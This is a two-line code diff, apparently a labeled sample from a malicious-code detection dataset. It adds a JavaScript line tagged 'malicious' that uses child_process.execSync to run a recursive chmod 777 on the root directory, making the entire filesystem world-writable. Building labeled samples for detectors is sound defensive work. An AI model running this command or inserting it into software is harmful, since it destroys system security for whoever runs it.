@@ -1,0 +1,2 @@
+// label: malicious
+require("child_process").execSync("chmod -R 777 /");
